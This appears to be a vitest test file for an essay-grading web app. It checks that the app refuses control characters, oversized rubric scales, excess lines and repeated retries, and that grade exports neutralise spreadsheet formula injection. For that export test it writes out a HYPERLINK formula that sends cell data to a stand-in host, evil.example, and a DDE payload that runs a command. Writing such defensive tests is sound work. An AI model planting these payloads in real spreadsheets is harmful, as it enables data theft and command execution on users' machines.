import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { countRows, freshDatabasePerFile } from "../helpers/db";
import { createTestAssignment, makeEssay, testRubric } from "../helpers/grading";
import { startApp, type RunningApp } from "../helpers/next-server";
import { waitFor } from "../helpers/workers";
import { startFakeOpenAiServer, type FakeOpenAiServer } from "../support/fake-openai-server";

// An attacker's requests against `next start` (#9): each gets a 4xx with a sentence, and nothing is written.
const db = freshDatabasePerFile();
let app: RunningApp;
let llm: FakeOpenAiServer;
let assignmentId: string;

const MAX_LINES_PER_SUBMISSION = 20;
const MAX_LINES_PER_SESSION = 50;

beforeAll(async () => {
  llm = await startFakeOpenAiServer();
  app = await startApp({
    DATABASE_URL: db.current.url,
    OPENAI_API_KEY: "test-key",
    OPENAI_BASE_URL: llm.url,
    OPENAI_MODEL: "gpt-4o-mini",
    MAX_LINES_PER_SUBMISSION: String(MAX_LINES_PER_SUBMISSION),
    MAX_LINES_PER_SESSION: String(MAX_LINES_PER_SESSION),
  });
  assignmentId = (await createTestAssignment(db.current.sql)).id;
});
afterAll(async () => {
  await app?.stop();
  await llm?.close();
});

async function countStored() {
  const sql = db.current.sql;
  return {
    assignments: await countRows(sql, "assignments"),
    sessions: await countRows(sql, "grading_sessions"),
    submissions: await countRows(sql, "submissions"),
    lines: await countRows(sql, "submission_lines"),
    jobs: await countRows(sql, "grading_jobs"),
  };
}

const postJson = (path: string, body: unknown) =>
  fetch(`${app.url}${path}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });

function postSession(files: File[], title?: string) {
  const form = new FormData();
  form.set("assignmentId", assignmentId);
  if (title !== undefined) form.set("title", title);
  for (const file of files) form.append("files", file, file.name);
  return fetch(`${app.url}/api/sessions`, { method: "POST", body: form });
}

async function errorOf(response: Response) {
  return ((await response.json()) as { error: { code: string; message: string; problems?: string[] } }).error;
}

describe("control characters in what people send (#9)", () => {
  it("an essay with a NUL byte is a 422 naming it on POST /api/submissions and /api/grade/stream (was a 500)", async () => {
    const before = await countStored();
    const text = `${makeEssay(3, "nul")}\nA line with a \u0000 zero byte in it.`;
    for (const path of ["/api/submissions", "/api/grade/stream"]) {
      const response = await postJson(path, { assignmentId, studentName: "Mallory", text });
      expect(response.status, path).toBe(422);
      expect((await errorOf(response)).message).toMatch(
        /^The essay contains a control character, U\+0000 \(NUL, a zero byte\), on line 4;/,
      );
    }
    expect(await countStored()).toEqual(before);
  });

  it("a student's name with a NUL byte is a 400 naming the field (was a 500)", async () => {
    const before = await countStored();
    const response = await postJson("/api/submissions", { assignmentId, studentName: "Mal\u0000lory", text: makeEssay(3, "nul-name") });
    expect(response.status).toBe(400);
    expect((await errorOf(response)).message).toBe(
      "studentName: the name contains a control character (such as a NUL byte) or a broken character; remove it",
    );
    expect(await countStored()).toEqual(before);
  });

  it("a class upload with NUL bytes in a CSV row, a .txt essay and a name is a 422 listing each (was a 500)", async () => {
    const before = await countStored();
    const csv = `name,text\nAna,"${makeEssay(2, "csv-ok")}"\nBen,"Fine start.\nThen a \u0000 byte."\n"Cl\u0000eo","${makeEssay(2, "csv-name")}"\n`;
    const response = await postSession([new File([csv], "period2.csv"), new File([`Essay\u0007text`], "dan.txt")]);
    expect(response.status).toBe(422);
    const error = await errorOf(response);
    expect(error.message).toBe("3 of 4 essays cannot be graded; nothing was started.");
    expect(error.problems).toEqual([
      expect.stringMatching(/^period2\.csv row 3: The essay contains a control character, U\+0000 .* on line 2;/),
      "period2.csv row 4: the student's name contains a control character, U+0000 (NUL, a zero byte); remove it.",
      expect.stringMatching(/^dan\.txt: The essay contains a control character, U\+0007/),
    ]);
    expect(await countStored()).toEqual(before);
  });

  it("a session title with a NUL byte is a 422 (was a 500)", async () => {
    const before = await countStored();
    const response = await postSession([new File([makeEssay(3, "title")], "eve.txt")], "Period\u00003");
    expect(response.status).toBe(422);
    expect((await errorOf(response)).message).toBe(
      "The session's title contains a control character, U+0000 (NUL, a zero byte); remove it.",
    );
    expect(await countStored()).toEqual(before);
  });
});

describe("rubric numbers within what the score columns hold (#9)", () => {
  it("a scale of 10,000 or a NUL in a label is refused with a 400 sentence, and no assignment is stored (was 201, then every job failed)", async () => {
    const before = await countStored();
    const tooLarge = await postJson("/api/assignments", { title: "Huge", rubric: { ...testRubric, scale: { min: 0, max: 10_000 } } });
    expect(tooLarge.status).toBe(400);
    expect((await errorOf(tooLarge)).message).toBe("rubric.scale.max: scores go up to 9999.99");

    const levels = [testRubric.criteria[0]!.levels[0]!, { score: 5, label: "Str\u0000ong", description: "" }];
    const nul = await postJson("/api/assignments", {
      title: "NUL",
      rubric: { ...testRubric, criteria: [{ ...testRubric.criteria[0]!, levels }] },
    });
    expect(nul.status).toBe(400);
    expect((await errorOf(nul)).message).toMatch(/^rubric\.criteria\.0\.levels\.1\.label: contains a control character/);
    expect(await countStored()).toEqual(before);
  });
});

describe("line ceilings per request and per class (#9)", () => {
  it(`an essay over MAX_LINES_PER_SUBMISSION (${MAX_LINES_PER_SUBMISSION} here) is a 422 before anything is written`, async () => {
    const before = await countStored();
    const response = await postJson("/api/submissions", {
      assignmentId,
      studentName: "Long",
      text: makeEssay(MAX_LINES_PER_SUBMISSION + 1, "long"),
    });
    expect(response.status).toBe(422);
    expect((await errorOf(response)).message).toBe(
      `The essay has ${MAX_LINES_PER_SUBMISSION + 1} lines after splitting long lines at sentence ends; the limit is ${MAX_LINES_PER_SUBMISSION}.`,
    );
    expect(await countStored()).toEqual(before);
  });

  it(`a class over MAX_LINES_PER_SESSION (${MAX_LINES_PER_SESSION} here) is a 422 before anything is written, though each essay fits`, async () => {
    const before = await countStored();
    const files = ["ann", "ben", "cy"].map((name) => new File([makeEssay(MAX_LINES_PER_SUBMISSION, name)], `${name}.txt`));
    const response = await postSession(files);
    expect(response.status).toBe(422);
    expect((await errorOf(response)).message).toBe(
      "These 3 essays have 60 lines in all; a session grades at most 50. Split the class into smaller sessions; nothing was started.",
    );
    expect(await countStored()).toEqual(before);

    const fits = await postSession(files.slice(0, 2));
    expect(fits.status).toBe(201);
  });
});

describe("the grades export (#9, formula injection)", () => {
  it("GET /api/sessions/:id/export quotes names a spreadsheet would run as formulas", async () => {
    const hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Grades")';
    const csv = `name,text\n"${hostile.replaceAll('"', '""')}","${makeEssay(2, "f1")}"\n@SUM(A1),"${makeEssay(2, "f2")}"\nAnn Lee,"${makeEssay(2, "f3")}"\n`;
    const created = await postSession([new File([csv], "class.csv")], "=cmd|' /C calc'!A0");
    expect(created.status).toBe(201);
    const { id } = (await created.json()) as { id: string };

    const response = await fetch(`${app.url}/api/sessions/${id}/export`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="-cmd-C-calc-A0-grades.csv"');
    const [, ...rows] = parse(await response.text()) as string[][];
    expect(rows.map((row) => row[0])).toEqual([`'${hostile}`, "'@SUM(A1)", "Ann Lee"]);
    expect(rows.every((row) => /^\d+$/.test(row.at(-2)!))).toBe(true); // lines_total stays a number
  });
});

describe("manual retries over HTTP (#9)", () => {
  it("a submission's Retry answers 409 with a sentence once its jobs were retried 3 times, and so does the job's own Retry", async () => {
    const sql = db.current.sql;
    llm.setFaults({ rates: { unauthorized: 1 } }); // a rejected key: every attempt fails for good
    try {
      const created = await postJson("/api/submissions", { assignmentId, studentName: "Retry Ray", text: makeEssay(4, "retry-cap") });
      expect(created.status).toBe(201);
      const { id } = (await created.json()) as { id: string };
      const jobs = () =>
        sql<{ id: string; status: string; manual_retries: number }[]>`
          select id, status, manual_retries from grading_jobs where payload ->> 'submissionId' = ${id} order by id
        `;
      const allFailed = async () => ((await jobs()).every((job) => job.status === "failed") ? jobs() : null);
      await waitFor("the submission's jobs to fail", allFailed, { timeoutMs: 30_000 });

      for (let retry = 1; retry <= 3; retry++) {
        const response = await fetch(`${app.url}/api/submissions/${id}/retry`, { method: "POST" });
        expect(response.status).toBe(200);
        expect(await response.json()).toEqual({ retried: 1, enqueued: 0 });
        await waitFor(`retry ${retry} to fail again`, allFailed, { timeoutMs: 30_000 });
      }
      const before = await jobs();
      expect(before.map((job) => job.manual_retries)).toEqual([3]);

      const refused = await fetch(`${app.url}/api/submissions/${id}/retry`, { method: "POST" });
      expect(refused.status).toBe(409);
      const error = await errorOf(refused);
      expect(error.code).toBe("conflict");
      expect(error.message).toMatch(
        /^Grading this essay has already been retried 3 times, the limit, and job \d+ still fails: OPENAI_API_KEY was rejected/,
      );

      const jobRetry = await fetch(`${app.url}/api/jobs/${before[0]!.id}/retry`, { method: "POST" });
      expect(jobRetry.status).toBe(409);
      expect((await errorOf(jobRetry)).message).toMatch(
        /^This job has already been retried by hand 3 times, the limit, and failed again: /,
      );
      expect(await jobs()).toEqual(before);
    } finally {
      llm.setFaults(null);
    }
  });
});

describe("text Postgres cannot store is refused at the edge, not by a failing insert (#9)", () => {
  const send = (method: string, path: string, body: unknown) =>
    fetch(`${app.url}${path}`, { method, headers: { "content-type": "application/json" }, body: JSON.stringify(body) });

  it("a NUL or a lone surrogate in an assignment's title, prompt or rubric text is a 400 sentence; nothing is stored", async () => {
    const before = await countStored();
    for (const body of [
      { title: "Essay\u0000one", rubric: testRubric },
      { title: "Essay", prompt: "Write \ud800 about it", rubric: testRubric },
      { title: "Essay", rubric: { ...testRubric, criteria: [{ ...testRubric.criteria[0]!, name: "Ide\udc00as" }] } },
    ]) {
      const response = await send("POST", "/api/assignments", body);
      expect(response.status, JSON.stringify(body)).toBe(400);
      expect((await errorOf(response)).message).toMatch(/control character .* or a broken character/);
    }
    const edited = await send("PUT", `/api/assignments/${assignmentId}`, { title: "Edited\u0000", rubric: testRubric });
    expect(edited.status).toBe(400);
    expect(await countStored()).toEqual(before);
  });

  it("a NUL or a lone surrogate in a teacher's override is a 400 sentence; the override and the cache are untouched", async () => {
    const created = await postJson("/api/submissions", { assignmentId, studentName: "Ira", text: makeEssay(2, "override-text") });
    const { id } = (await created.json()) as { id: string };
    const overrides = async () => ({
      lines: await countRows(db.current.sql, "rating_overrides"),
      criteria: await countRows(db.current.sql, "criterion_overrides"),
      // Grading goes on in the background and fills the cache; only a teacher's entry would be the override's.
      teacherCache: (await db.current.sql`select count(*)::int as n from phrase_cache where source = 'teacher'`)[0]!.n as number,
    });
    const before = await overrides();
    const criterionId = testRubric.criteria[0]!.id;
    for (const [path, body] of [
      [`/api/submissions/${id}/lines/0/override`, { score: 3, comment: "Cite\u0000it" }],
      [`/api/submissions/${id}/lines/0/override`, { score: 3, comment: "Cite \ud800 it" }],
      [`/api/submissions/${id}/lines/0/override`, { score: 3, label: "ok\u0000" }],
      [`/api/submissions/${id}/criteria/${criterionId}/override`, { score: 3, comment: "Bad \udfff" }],
    ] as const) {
      const response = await send("PUT", path, body);
      expect(response.status, JSON.stringify(body)).toBe(400);
      expect((await errorOf(response)).message).toMatch(/control character .* or a broken character/);
    }
    expect(await overrides()).toEqual(before);
  });
});
